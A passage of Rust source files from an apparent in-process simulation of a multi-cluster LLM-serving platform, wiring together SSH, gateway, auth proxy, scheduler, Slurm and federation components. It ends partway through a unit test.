use super::launcher::LlmInstanceLauncher;
use crate::cloud_interface::CloudInterface;
use crate::config::{ClusterSpec, StackConfig};
use crate::hpc_proxy::{HpcProxy, HpcProxyConfig};
use crate::scheduler::{DemandTracker, RoutingTable, ServiceScheduler};
use crate::slurm::Slurmctld;
use crate::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use crate::util::clock::{Clock, RealClock};
use crate::util::http::Server;

/// A running cluster: the HPC side behind its SSH boundary, and the ESX
/// side's proxy + HTTP endpoint for it.
pub struct ClusterRuntime {
    pub name: String,
    pub spec: ClusterSpec,
    // HPC side
    pub sshd: SshServer,
    pub ctld: Arc<Mutex<Slurmctld>>,
    pub routing: Arc<RoutingTable>,
    pub demand: Arc<DemandTracker>,
    pub scheduler: Arc<ServiceScheduler>,
    pub launcher: Arc<LlmInstanceLauncher>,
    pub cloud_interface: Arc<CloudInterface>,
    // ESX side
    pub hpc_proxy: Arc<HpcProxy>,
    pub hpc_proxy_server: Server,
    /// False once [`ClusterRuntime::kill`] has taken the cluster down.
    pub alive: bool,
}

impl ClusterRuntime {
    /// Bring up one cluster. `spec.services` selects which of the stack's
    /// services this cluster hosts (empty = all); `seed` decorrelates the
    /// per-cluster RNGs.
    pub fn launch(config: &StackConfig, spec: &ClusterSpec, seed: u64) -> Result<ClusterRuntime> {
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());

        let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(
            clock.clone(),
            spec.gpu_nodes,
        )));
        let routing = Arc::new(RoutingTable::new());
        let demand = Arc::new(DemandTracker::new(60_000));
        let launcher = LlmInstanceLauncher::new(
            &config.artifacts_dir,
            spec.model_load_delay,
            config.streaming.clone(),
            config.engine.clone(),
        );
        let scheduler = ServiceScheduler::new(
            config
                .services
                .iter()
                .filter(|s| spec.hosts(&s.name) && config.model_placed(&s.name, &spec.name))
                .map(|s| {
                    let mut sc =
                        s.to_scheduler_config(config.service_walltime.as_millis() as u64);
                    // [fairness] batch_demand_weight: how much sheddable
                    // load counts toward autoscaling.
                    sc.batch_demand_weight = config.engine.fairness.batch_demand_weight;
                    if config.elastic.enabled {
                        // [elastic]: preemptible gap-harvested jobs with
                        // graceful draining and warm standby.
                        sc.grace = config.elastic.grace.as_millis() as u64;
                        sc.gap_walltime = config.elastic.gap_walltime.as_millis() as u64;
                        sc.standby = config.elastic.standby;
                    }
                    sc
                })
                .collect(),
            ctld.clone(),
            routing.clone(),
            demand.clone(),
            clock.clone(),
            launcher.clone(),
            seed,
        );
        let sched_trigger = scheduler.clone();
        let cloud_interface = CloudInterface::with_streaming(
            routing.clone(),
            demand.clone(),
            clock.clone(),
            Arc::new(move || sched_trigger.run()),
            seed ^ 0x5A,
            config.streaming.clone(),
        );
        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: super::FUNCTIONAL_KEY.into(),
                    force_command: Some("saia".into()),
                }],
                exec_latency: spec.ssh_exec_latency,
                workers: 32,
                exec_workers: 64,
            },
        )
        .with_context(|| format!("bind sshd for cluster {}", spec.name))?;
        let ci = cloud_interface.clone();
        sshd.register_executable("saia", move |ctx| ci.run(ctx));
        // Every keep-alive ping triggers a scheduler run (§5.5) — this is
        // what makes the whole platform tick.
        let ping_sched = scheduler.clone();
        sshd.set_keepalive_hook(move || ping_sched.run());

        let hpc_proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: super::FUNCTIONAL_KEY.into(),
            keepalive_interval: config.keepalive,
            reconnect_backoff: config.keepalive,
            reconnect_backoff_max: config.keepalive * 8,
            streaming: config.streaming.clone(),
        });
        let hpc_proxy_server = hpc_proxy
            .serve("127.0.0.1:0", 64)
            .with_context(|| format!("bind hpc proxy for cluster {}", spec.name))?;

        Ok(ClusterRuntime {
            name: spec.name.clone(),
            spec: spec.clone(),
            sshd,
            ctld,
            routing,
            demand,
            scheduler,
            launcher,
            cloud_interface,
            hpc_proxy,
            hpc_proxy_server,
            alive: true,
        })
    }

    /// Register this cluster's component metrics, labelled with the cluster
    /// name so N clusters coexist in one scrape.
    pub fn register_metrics(&self, registry: &crate::monitoring::Registry) {
        use crate::monitoring::labelled;
        use std::sync::atomic::Ordering::Relaxed;
        let hp = self.hpc_proxy.clone();
        registry.register(
            &format!("hpc_proxy[{}]", self.name),
            labelled(
                "cluster",
                &self.name,
                Box::new(move || {
                    let mut out = format!(
                        "hpc_proxy_pings_total {}\nhpc_proxy_reconnects_total {}\n\
                         hpc_proxy_connect_attempts_total {}\nhpc_proxy_forwarded_total {}\n",
                        hp.pings_sent.load(Relaxed),
                        hp.reconnects(),
                        hp.connect_attempts(),
                        hp.forwarded.load(Relaxed),
                    );
                    out.push_str(&hp.stream_stats.prometheus_text("hpc_proxy"));
                    out
                }),
            ),
        );
        let ci = self.cloud_interface.clone();
        registry.register(
            &format!("cloud_interface[{}]", self.name),
            labelled(
                "cluster",
                &self.name,
                Box::new(move || {
                    let mut out = format!(
                        "cloud_interface_forwarded_total {}\n\
                         cloud_interface_violations_total {}\n",
                        ci.forwarded.load(Relaxed),
                        ci.violations.load(Relaxed),
                    );
                    out.push_str(&ci.stream_stats.prometheus_text("cloud_interface"));
                    out
                }),
            ),
        );
        let sched = self.scheduler.clone();
        registry.register(
            &format!("scheduler[{}]", self.name),
            labelled(
                "cluster",
                &self.name,
                Box::new(move || {
                    let s = &sched.stats;
                    format!(
                        "scheduler_runs_total {}\nscheduler_submitted_total {}\n\
                         scheduler_scale_ups_total {}\nscheduler_scale_downs_total {}\n\
                         scheduler_renewals_total {}\nscheduler_recovered_failures_total {}\n\
                         scheduler_preemption_notices_total {}\n\
                         scheduler_walltime_warnings_total {}\n\
                         scheduler_requeues_total {}\nscheduler_gap_jobs_total {}\n\
                         scheduler_standby_ups_total {}\n",
                        s.runs.load(Relaxed),
                        s.submitted.load(Relaxed),
                        s.scale_ups.load(Relaxed),
                        s.scale_downs.load(Relaxed),
                        s.renewals.load(Relaxed),
                        s.recovered_failures.load(Relaxed),
                        s.preemption_notices.load(Relaxed),
                        s.walltime_warnings.load(Relaxed),
                        s.requeues.load(Relaxed),
                        s.gap_jobs.load(Relaxed),
                        s.standby_ups.load(Relaxed),
                    )
                }),
            ),
        );
        let c = self.ctld.clone();
        registry.register(
            &format!("slurm[{}]", self.name),
            labelled(
                "cluster",
                &self.name,
                Box::new(move || {
                    let ctld = c.lock().unwrap();
                    let (total, free) = ctld.gpu_utilization();
                    format!("slurm_gpus_total {total}\nslurm_gpus_free {free}\n")
                }),
            ),
        );
        let launcher = self.launcher.clone();
        registry.register(
            &format!("llm[{}]", self.name),
            labelled(
                "cluster",
                &self.name,
                Box::new(move || launcher.engine_metrics_text()),
            ),
        );
    }

    /// Abrupt outage: the whole cluster (SSH endpoint, proxy channel, GPU
    /// nodes) goes dark, as in the federation failover drill. In-flight
    /// requests on this cluster fail; the federation layer must absorb
    /// everything else.
    pub fn kill(&mut self) {
        log::warn!(target: "coordinator", "killing cluster {}", self.name);
        self.alive = false;
        self.hpc_proxy.shutdown();
        self.hpc_proxy_server.stop();
        self.sshd.stop();
        self.launcher.stop_all();
    }

    /// Graceful teardown.
    pub fn shutdown(&mut self) {
        if self.alive {
            self.kill();
        }
    }
}
