//! Full-stack bring-up: wires every component of Figure 1 together.
//!
//! ```text
//!  [auth proxy] → [gateway] → { webapp, per-model routes → [hpc proxy] }
//!                                              │ SSH (ForceCommand)
//!                                              ▼
//!  [sshd] → [cloud interface] → routing table ← [scheduler] → [slurm]
//!                       │                            │ launches
//!                       ▼                            ▼
//!                 [llm servers (in-process "GPU nodes")]
//! ```
//!
//! Every box is a real component with its own socket; the "HPC platform"
//! half runs in the same process but is reachable *only* through the SSH
//! channel, preserving the paper's isolation boundary.

mod cluster;
mod federated;
mod launcher;

pub use cluster::ClusterRuntime;
pub use federated::FederatedStack;
pub use launcher::LlmInstanceLauncher;

use std::sync::Arc;
use std::sync::Mutex;

use anyhow::{Context, Result};

use crate::auth::{AuthProxy, SsoProvider};
use crate::cloud_interface::CloudInterface;
use crate::config::{ClusterSpec, StackConfig};
use crate::external_proxy::ExternalUpstream;
use crate::gateway::{Gateway, Route};
use crate::hpc_proxy::HpcProxy;
use crate::monitoring::Registry;
use crate::scheduler::{DemandTracker, RoutingTable, ServiceScheduler};
use crate::slurm::Slurmctld;
use crate::ssh::SshServer;
use crate::util::http::{Response, Server};
use crate::webapp::WebApp;

/// The SSH key fingerprint of the web server's functional account.
pub const FUNCTIONAL_KEY: &str = "SHA256:chat-ai-functional-account";
/// Shared secret between auth proxy and gateway.
pub const PROXY_SECRET: &str = "esx-internal-9321";

/// A fully wired Chat AI deployment.
pub struct Stack {
    pub config: StackConfig,
    // ESX side
    pub sso: Arc<SsoProvider>,
    pub auth_server: Server,
    pub gateway: Arc<Gateway>,
    pub gateway_server: Server,
    pub webapp: Arc<WebApp>,
    pub webapp_server: Server,
    pub hpc_proxy: Arc<HpcProxy>,
    pub hpc_proxy_server: Server,
    pub external: Option<(Arc<ExternalUpstream>, Server)>,
    // HPC side
    pub sshd: SshServer,
    pub ctld: Arc<Mutex<Slurmctld>>,
    pub routing: Arc<RoutingTable>,
    pub demand: Arc<DemandTracker>,
    pub scheduler: Arc<ServiceScheduler>,
    pub launcher: Arc<LlmInstanceLauncher>,
    pub cloud_interface: Arc<CloudInterface>,
    // monitoring
    pub registry: Arc<Registry>,
    pub monitoring_server: Server,
}

impl Stack {
    /// Bring up the whole architecture with real sockets between every
    /// component. Blocks only for server binds, not for model loads — use
    /// [`Stack::wait_ready`] to wait for instances.
    pub fn launch(config: StackConfig) -> Result<Stack> {
        crate::util::trace::set_enabled(config.tracing.enabled);
        // [http]: every hop below shares the process-wide keep-alive pool.
        crate::util::http::http_pool().configure(config.http.clone());
        // ---- HPC side + its SSH channel ---------------------------------
        // The single-cluster stack is one ClusterRuntime; FederatedStack
        // launches N of them behind a federation router.
        let spec = ClusterSpec {
            name: "hpc".into(),
            gpu_nodes: config.gpu_nodes,
            ssh_exec_latency: config.ssh_exec_latency,
            model_load_delay: config.model_load_delay,
            services: Vec::new(),
        };
        let cluster = ClusterRuntime::launch(&config, &spec, config.seed)?;

        let external = if config.external_models {
            Some(
                ExternalUpstream::start("gpt-4", std::time::Duration::from_millis(350))
                    .context("external upstream")?,
            )
        } else {
            None
        };

        // One gateway route per model + webapp + optional GPT-4.
        let mut routes = Vec::new();
        for svc in &config.services {
            routes.push(
                Route::new(&svc.name, &format!("/{}", svc.name))
                    .with_upstream(&cluster.hpc_proxy_server.addr().to_string()),
            );
        }
        if let Some((_, ext_server)) = &external {
            routes.push(
                Route::new("gpt-4", "/gpt-4")
                    .with_strip_prefix()
                    .with_rate_limit(2.0, 5) // strict paid-access limits (§5.8)
                    .with_upstream(&ext_server.addr().to_string()),
            );
        }
        // The web app itself is served behind the gateway (Figure 1).
        let webapp_route_idx = routes.len();
        routes.push(Route::new("webapp", "/"));
        let gateway = Gateway::with_streaming(routes, config.streaming.clone());
        gateway.set_trusted_proxy_secret(PROXY_SECRET);
        {
            // Single-cluster `GET /v1/models`: catalog metadata without
            // federation health (there is no cluster registry here).
            let catalog = crate::federation::ModelCatalog::from_config(&config);
            gateway.set_models_provider(move || catalog.models_json(None));
        }
        {
            // Authenticated `POST /admin/drain` → Slurm's `drain_node`:
            // the node finishes its current jobs but accepts no new ones;
            // the scheduler's next run sees the shrunken cluster and the
            // affected instances drain through the elastic machinery.
            let drain_ctld = cluster.ctld.clone();
            gateway.set_admin_drain(move |body| {
                let Some(node) = body.str_field("node") else {
                    return Response::error(400, "missing node");
                };
                let drain = body.bool_field("drain").unwrap_or(true);
                let mut ctld = drain_ctld.lock().unwrap();
                if !ctld.sinfo().iter().any(|(n, _, _)| n == node) {
                    return Response::error(404, &format!("unknown node {node}"));
                }
                if drain {
                    ctld.drain_node(node);
                } else {
                    ctld.restore_node(node);
                }
                let state = ctld
                    .sinfo()
                    .into_iter()
                    .find(|(n, _, _)| n == node)
                    .map(|(_, s, _)| format!("{s:?}").to_lowercase())
                    .unwrap_or_default();
                Response::json(
                    200,
                    &crate::util::json::Json::obj()
                        .set("node", node)
                        .set("state", state.as_str()),
                )
            });
        }
        // Worker pools are sized for keep-alive fan-in: the thread-per-
        // connection server dedicates a worker to every pooled upstream
        // connection held by a proxy thread (§Perf).
        let gateway_server = gateway.serve("127.0.0.1:0", 96).context("bind gateway")?;

        let webapp = WebApp::new(&gateway_server.addr().to_string());
        let webapp_server = webapp.serve("127.0.0.1:0", 96).context("bind webapp")?;
        let _ = webapp_route_idx;
        gateway.set_upstreams("webapp", vec![webapp_server.addr().to_string()]);

        let sso = SsoProvider::new(config.seed ^ 0xA0);
        let auth_proxy = AuthProxy::with_secret(
            sso.clone(),
            &gateway_server.addr().to_string(),
            PROXY_SECRET,
        );
        let auth_server = auth_proxy.serve("127.0.0.1:0", 64).context("bind auth proxy")?;

        // ---- monitoring ------------------------------------------------------
        let registry = Registry::new();
        {
            let gw = gateway.clone();
            registry.register("gateway", Box::new(move || gw_metrics(&gw)));
            registry.register(
                "tracing",
                Box::new(|| crate::util::trace::tracer().prometheus_text()),
            );
            // The pools label by peer themselves, so no `labelled` wrap.
            registry.register(
                "http_pool",
                Box::new(|| crate::util::http::http_pool().prometheus_text()),
            );
            registry.register(
                "ssh_pool",
                Box::new(|| crate::ssh::ssh_pool().prometheus_text()),
            );
            cluster.register_metrics(&registry);
        }
        let monitoring_server = registry.serve("127.0.0.1:0").context("bind monitoring")?;

        let ClusterRuntime {
            sshd,
            ctld,
            routing,
            demand,
            scheduler,
            launcher,
            cloud_interface,
            hpc_proxy,
            hpc_proxy_server,
            ..
        } = cluster;

        Ok(Stack {
            config,
            sso,
            auth_server,
            gateway,
            gateway_server,
            webapp,
            webapp_server,
            hpc_proxy,
            hpc_proxy_server,
            external,
            sshd,
            ctld,
            routing,
            demand,
            scheduler,
            launcher,
            cloud_interface,
            registry,
            monitoring_server,
        })
    }

    /// Wait until every service with `min_instances > 0` has at least one
    /// ready instance (or the timeout passes). Returns readiness.
    pub fn wait_ready(&self, timeout: std::time::Duration) -> bool {
        let deadline = std::time::Instant::now() + timeout;
        loop {
            let all_ready = self
                .config
                .services
                .iter()
                .filter(|s| s.min_instances > 0)
                .all(|s| self.routing.counts(&s.name).1 >= 1);
            if all_ready {
                return true;
            }
            if std::time::Instant::now() > deadline {
                return false;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    pub fn gateway_url(&self) -> String {
        self.gateway_server.url()
    }

    pub fn auth_url(&self) -> String {
        self.auth_server.url()
    }

    /// Graceful teardown.
    pub fn shutdown(mut self) {
        self.hpc_proxy.shutdown();
        self.auth_server.stop();
        self.gateway_server.stop();
        self.webapp_server.stop();
        self.hpc_proxy_server.stop();
        self.monitoring_server.stop();
        self.sshd.stop();
        self.launcher.stop_all();
    }
}

fn gw_metrics(gw: &Gateway) -> String {
    // Reuse the gateway's own /metrics text through a local call.
    use std::sync::atomic::Ordering::Relaxed;
    let mut out = format!(
        "gateway_requests_total {}\ngateway_unauthorized_total {}\n",
        gw.total_requests.load(Relaxed),
        gw.unauthorized.load(Relaxed)
    );
    out.push_str(&gw.stream_stats.prometheus_text("gateway"));
    out
}
