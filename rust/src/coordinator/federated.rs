//! Federated bring-up: N clusters (each a full [`ClusterRuntime`]) behind
//! one gateway and one federation router.
//!
//! ```text
//!  [auth] → [gateway] → per-model routes → [federated router]
//!                                            │ pick + spillover
//!                       ┌────────────────────┼──────────────────┐
//!                       ▼                    ▼                  ▼
//!                 [hpc proxy A]        [hpc proxy B]      [hpc proxy C]
//!                       │ SSH                │ SSH              │ SSH
//!                 [cluster A]          [cluster B]        [cluster C]
//! ```
//!
//! Every cluster keeps the paper's isolation boundary: its HPC side is
//! reachable only through its own SSH channel.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{bail, Context, Result};

use super::cluster::ClusterRuntime;
use crate::auth::{AuthProxy, SsoProvider};
use crate::config::StackConfig;
use crate::federation::{probe_all, ClusterRegistry, FederatedRouter, HealthProber, ModelCatalog};
use crate::gateway::{Gateway, Route};
use crate::monitoring::Registry;
use crate::util::http::{Response, Server};
use crate::webapp::WebApp;

/// A fully wired multi-cluster Chat AI deployment.
pub struct FederatedStack {
    pub config: StackConfig,
    // ESX side
    pub sso: Arc<SsoProvider>,
    pub auth_server: Server,
    pub gateway: Arc<Gateway>,
    pub gateway_server: Server,
    pub webapp: Arc<WebApp>,
    pub webapp_server: Server,
    // federation layer
    pub clusters: Mutex<Vec<ClusterRuntime>>,
    pub cluster_registry: Arc<ClusterRegistry>,
    pub router: Arc<FederatedRouter>,
    pub router_server: Server,
    prober: HealthProber,
    // monitoring
    pub registry: Arc<Registry>,
    pub monitoring_server: Server,
}

impl FederatedStack {
    /// Bring up every cluster in `config.clusters` plus the shared web
    /// tier. Requires at least one `[cluster.*]` entry (use
    /// [`super::Stack`] for the single-cluster shape).
    pub fn launch(config: StackConfig) -> Result<FederatedStack> {
        if config.clusters.is_empty() {
            bail!("FederatedStack needs at least one [cluster.*]; use Stack for single-cluster");
        }
        crate::util::trace::set_enabled(config.tracing.enabled);
        // [http]: every hop below shares the process-wide keep-alive pool.
        crate::util::http::http_pool().configure(config.http.clone());

        // ---- clusters ---------------------------------------------------
        let mut clusters = Vec::new();
        for (i, spec) in config.clusters.iter().enumerate() {
            let seed = config.seed ^ ((i as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
            clusters.push(ClusterRuntime::launch(&config, spec, seed)?);
        }

        // ---- federation layer -------------------------------------------
        let cluster_registry = ClusterRegistry::new(config.federation.clone());
        for cluster in &clusters {
            cluster_registry.register(
                &cluster.name,
                Some(cluster.hpc_proxy.clone()),
                &cluster.hpc_proxy_server.addr().to_string(),
            );
        }
        // First probe synchronously so the router starts with a capacity
        // view instead of treating every cluster as unprobed.
        probe_all(&cluster_registry);
        let prober = HealthProber::start(
            cluster_registry.clone(),
            config.federation.probe_interval,
        );
        let router = FederatedRouter::with_relay(cluster_registry.clone(), config.streaming.relay);
        let catalog = ModelCatalog::from_config(&config);
        router.set_catalog(catalog.clone());
        let router_server = router.serve("127.0.0.1:0", 96).context("bind router")?;

        // ---- gateway / web tier -----------------------------------------
        // Routes come from the catalog (one per model entry), not from the
        // raw service list — same names today, but the catalog is where
        // placement and metadata live.
        let mut routes = Vec::new();
        for entry in catalog.entries() {
            routes.push(
                Route::new(&entry.name, &format!("/{}", entry.name))
                    .with_upstream(&router_server.addr().to_string()),
            );
        }
        // Operator-facing federation status (auth required, like models).
        routes.push(
            Route::new("federation", "/federation")
                .with_upstream(&router_server.addr().to_string()),
        );
        routes.push(Route::new("webapp", "/"));
        let gateway = Gateway::with_streaming(routes, config.streaming.clone());
        gateway.set_trusted_proxy_secret(super::PROXY_SECRET);
        {
            // Federated `GET /v1/models`: catalog entries annotated with
            // live per-cluster health from the registry.
            let catalog = catalog.clone();
            let reg = cluster_registry.clone();
            gateway.set_models_provider(move || catalog.models_json(Some(&reg)));
        }
        {
            // Authenticated `POST /admin/drain`: `{"node": ...}` drains a
            // GPU node on whichever cluster owns it (Slurm-level drain);
            // `{"cluster": ...}` drains a whole cluster at the federation
            // tier (router deprioritizes it). `"drain": false` reverts.
            let ctlds: Vec<(String, Arc<Mutex<crate::slurm::Slurmctld>>)> = clusters
                .iter()
                .map(|c| (c.name.clone(), c.ctld.clone()))
                .collect();
            let reg = cluster_registry.clone();
            gateway.set_admin_drain(move |body| {
                let drain = body.bool_field("drain").unwrap_or(true);
                if let Some(node) = body.str_field("node") {
                    for (cluster_name, ctld) in &ctlds {
                        let mut ctld = ctld.lock().unwrap();
                        if !ctld.sinfo().iter().any(|(n, _, _)| n == node) {
                            continue;
                        }
                        if drain {
                            ctld.drain_node(node);
                        } else {
                            ctld.restore_node(node);
                        }
                        return Response::json(
                            200,
                            &crate::util::json::Json::obj()
                                .set("cluster", cluster_name.as_str())
                                .set("node", node)
                                .set("draining", drain),
                        );
                    }
                    return Response::error(404, &format!("unknown node {node}"));
                }
                if let Some(cluster) = body.str_field("cluster") {
                    if !reg.set_draining(cluster, drain) {
                        return Response::error(404, &format!("unknown cluster {cluster}"));
                    }
                    return Response::json(
                        200,
                        &crate::util::json::Json::obj()
                            .set("cluster", cluster)
                            .set("draining", drain),
                    );
                }
                Response::error(400, "need node or cluster")
            });
        }
        let gateway_server = gateway.serve("127.0.0.1:0", 96).context("bind gateway")?;

        let webapp = WebApp::new(&gateway_server.addr().to_string());
        let webapp_server = webapp.serve("127.0.0.1:0", 96).context("bind webapp")?;
        gateway.set_upstreams("webapp", vec![webapp_server.addr().to_string()]);

        let sso = SsoProvider::new(config.seed ^ 0xA0);
        let auth_proxy = AuthProxy::with_secret(
            sso.clone(),
            &gateway_server.addr().to_string(),
            super::PROXY_SECRET,
        );
        let auth_server = auth_proxy.serve("127.0.0.1:0", 64).context("bind auth proxy")?;

        // ---- monitoring --------------------------------------------------
        let registry = Registry::new();
        {
            let gw = gateway.clone();
            registry.register("gateway", Box::new(move || super::gw_metrics(&gw)));
            let r = router.clone();
            registry.register("federation", Box::new(move || r.metrics_text()));
            registry.register(
                "tracing",
                Box::new(|| crate::util::trace::tracer().prometheus_text()),
            );
            // The pools label by peer themselves, so no `labelled` wrap.
            registry.register(
                "http_pool",
                Box::new(|| crate::util::http::http_pool().prometheus_text()),
            );
            registry.register(
                "ssh_pool",
                Box::new(|| crate::ssh::ssh_pool().prometheus_text()),
            );
            for cluster in &clusters {
                cluster.register_metrics(&registry);
            }
        }
        let monitoring_server = registry.serve("127.0.0.1:0").context("bind monitoring")?;

        Ok(FederatedStack {
            config,
            sso,
            auth_server,
            gateway,
            gateway_server,
            webapp,
            webapp_server,
            clusters: Mutex::new(clusters),
            cluster_registry,
            router,
            router_server,
            prober,
            registry,
            monitoring_server,
        })
    }

    /// Wait until every service with `min_instances > 0` has at least one
    /// ready instance on at least one cluster that hosts it.
    pub fn wait_ready(&self, timeout: Duration) -> bool {
        let deadline = std::time::Instant::now() + timeout;
        loop {
            let all_ready = {
                let clusters = self.clusters.lock().unwrap();
                self.config
                    .services
                    .iter()
                    .filter(|s| s.min_instances > 0)
                    .all(|s| {
                        clusters
                            .iter()
                            .any(|c| c.alive && c.routing.counts(&s.name).1 >= 1)
                    })
            };
            if all_ready {
                return true;
            }
            if std::time::Instant::now() > deadline {
                return false;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    pub fn gateway_url(&self) -> String {
        self.gateway_server.url()
    }

    pub fn auth_url(&self) -> String {
        self.auth_server.url()
    }

    pub fn router_url(&self) -> String {
        self.router_server.url()
    }

    /// Simulate a whole-cluster outage (the failover drill): the cluster's
    /// SSH endpoint, HPC proxy and instances all go dark. Returns false for
    /// an unknown name.
    pub fn kill_cluster(&self, name: &str) -> bool {
        let mut clusters = self.clusters.lock().unwrap();
        match clusters.iter_mut().find(|c| c.name == name) {
            Some(c) => {
                c.kill();
                true
            }
            None => false,
        }
    }

    /// Graceful teardown.
    pub fn shutdown(mut self) {
        self.prober.stop();
        self.auth_server.stop();
        self.gateway_server.stop();
        self.webapp_server.stop();
        self.router_server.stop();
        self.monitoring_server.stop();
        for cluster in self.clusters.lock().unwrap().iter_mut() {
            cluster.shutdown();
        }
    }
}
