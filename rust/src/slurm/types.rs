//! Slurm data model: nodes, jobs, resources, events.

use crate::util::clock::Millis;

/// Job identifier (monotonic, like Slurm's).
pub type JobId = u64;

/// Resources a node offers / a job requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Resources {
    pub cpus: u32,
    pub gpus: u32,
    pub mem_mb: u64,
}

impl Resources {
    pub const ZERO: Resources = Resources {
        cpus: 0,
        gpus: 0,
        mem_mb: 0,
    };

    pub fn fits_in(&self, avail: &Resources) -> bool {
        self.cpus <= avail.cpus && self.gpus <= avail.gpus && self.mem_mb <= avail.mem_mb
    }

    pub fn add(&mut self, other: &Resources) {
        self.cpus += other.cpus;
        self.gpus += other.gpus;
        self.mem_mb += other.mem_mb;
    }

    /// Subtract, panicking on underflow (callers must check `fits_in`).
    pub fn sub(&mut self, other: &Resources) {
        self.cpus = self
            .cpus
            .checked_sub(other.cpus)
            .expect("cpu oversubscription");
        self.gpus = self
            .gpus
            .checked_sub(other.gpus)
            .expect("gpu oversubscription");
        self.mem_mb = self
            .mem_mb
            .checked_sub(other.mem_mb)
            .expect("mem oversubscription");
    }
}

/// Static description of a compute node.
#[derive(Debug, Clone)]
pub struct NodeSpec {
    pub name: String,
    pub resources: Resources,
    /// Partition membership (e.g. "gpu", "compute").
    pub partition: String,
}

impl NodeSpec {
    /// The paper's testbed GPU node: 4×H100, 52 cores, 500 GB.
    pub fn gpu_node(name: &str) -> NodeSpec {
        NodeSpec {
            name: name.to_string(),
            resources: Resources {
                cpus: 52,
                gpus: 4,
                mem_mb: 500_000,
            },
            partition: "gpu".to_string(),
        }
    }
}

/// Administrative / health state of a node.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NodeState {
    /// Healthy, accepting jobs.
    Up,
    /// Failed (hardware fault injected); running jobs are killed.
    Down,
    /// Administratively drained; running jobs finish, no new jobs.
    Drained,
}

/// What a job asks for at submit time (`sbatch`).
#[derive(Debug, Clone)]
pub struct JobSpec {
    /// Job name; service jobs encode the service (e.g. "svc-llama3-70b").
    pub name: String,
    pub resources: Resources,
    /// Partition to schedule into.
    pub partition: String,
    /// Wall-clock limit; the job is killed (Timeout) when exceeded.
    pub time_limit: Millis,
    /// Fixed run duration for batch jobs; `None` means "runs until walltime
    /// or cancellation" (service jobs).
    pub duration: Option<Millis>,
    /// Higher is scheduled first (Slurm priority).
    pub priority: i64,
    /// Free-form metadata the submitter can read back from `squeue`
    /// (the scheduler script stores service name / port here, mirroring
    /// the paper's use of job comments).
    pub comment: String,
    /// Gap-harvesting contract: the job yields its node to non-preemptible
    /// work (Slurm's `PreemptMode=REQUEUE` + `--requeue`). The controller
    /// emits a [`SlurmEvent::PreemptionNotice`] `grace` before the kill and
    /// requeues the job at front priority afterwards.
    pub preemptible: bool,
    /// Grace budget between [`SlurmEvent::PreemptionNotice`] /
    /// [`SlurmEvent::WalltimeWarning`] and the kill (Slurm's GraceTime).
    /// 0 = no notice, killed immediately.
    pub grace: Millis,
}

impl JobSpec {
    pub fn service(name: &str, gpus: u32, time_limit: Millis) -> JobSpec {
        JobSpec {
            name: name.to_string(),
            resources: Resources {
                cpus: 8,
                gpus,
                mem_mb: 64_000,
            },
            partition: "gpu".to_string(),
            time_limit,
            duration: None,
            priority: 100,
            comment: String::new(),
            preemptible: false,
            grace: 0,
        }
    }

    /// A gap-harvesting service job: preemptible, with a drain grace budget.
    pub fn preemptible_service(
        name: &str,
        gpus: u32,
        time_limit: Millis,
        grace: Millis,
    ) -> JobSpec {
        JobSpec {
            preemptible: true,
            grace,
            ..JobSpec::service(name, gpus, time_limit)
        }
    }

    pub fn batch(name: &str, resources: Resources, duration: Millis, time_limit: Millis) -> JobSpec {
        JobSpec {
            name: name.to_string(),
            resources,
            partition: "gpu".to_string(),
            time_limit,
            duration: Some(duration),
            priority: 50,
            comment: String::new(),
            preemptible: false,
            grace: 0,
        }
    }
}

/// Lifecycle state of a job.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobState {
    Pending,
    /// Running on the named node since the given time.
    Running { node: String, since: Millis },
    Completed,
    Cancelled,
    /// Killed by walltime.
    Timeout,
    /// Node died underneath it.
    NodeFail,
}

impl JobState {
    pub fn is_active(&self) -> bool {
        matches!(self, JobState::Pending | JobState::Running { .. })
    }

    pub fn is_running(&self) -> bool {
        matches!(self, JobState::Running { .. })
    }
}

/// A job record as tracked by the controller (and surfaced by `squeue`).
#[derive(Debug, Clone)]
pub struct Job {
    pub id: JobId,
    pub spec: JobSpec,
    pub state: JobState,
    pub submitted_at: Millis,
    /// Set when the job finishes, for accounting.
    pub ended_at: Option<Millis>,
    /// The job was preempted and put back in the queue; requeued jobs sort
    /// ahead of everything else (Slurm re-enters requeued work at the front).
    pub requeued: bool,
}

impl Job {
    pub fn running_node(&self) -> Option<&str> {
        match &self.state {
            JobState::Running { node, .. } => Some(node),
            _ => None,
        }
    }
}

/// Events emitted by the controller; the coordinator drains these to start /
/// stop in-process service instances (the paper's job script body).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SlurmEvent {
    JobStarted { job: JobId, node: String },
    JobEnded { job: JobId, node: String, state: JobStateTag },
    /// A non-preemptible job needs the node: the preemptible job has until
    /// `deadline` to drain before it is killed and requeued (GraceTime).
    PreemptionNotice { job: JobId, node: String, deadline: Millis },
    /// The job's walltime expires at `deadline` (`grace` from now): drain
    /// proactively instead of dying mid-decode.
    WalltimeWarning { job: JobId, node: String, deadline: Millis },
    NodeDown { node: String },
    NodeRestored { node: String },
}

/// Terse end-state tag for events.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobStateTag {
    Completed,
    Cancelled,
    Timeout,
    NodeFail,
    /// Killed to make room for non-preemptible work; the controller
    /// requeued it at front priority (`JobStarted` fires again later).
    Preempted,
}

/// Per-job accounting record (`sacct`).
#[derive(Debug, Clone)]
pub struct AccountingRecord {
    pub job: JobId,
    pub name: String,
    pub node: Option<String>,
    pub gpus: u32,
    pub queued_ms: Millis,
    pub ran_ms: Millis,
    pub end_state: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resources_fit_and_arith() {
        let node = Resources {
            cpus: 52,
            gpus: 4,
            mem_mb: 500_000,
        };
        let job = Resources {
            cpus: 8,
            gpus: 2,
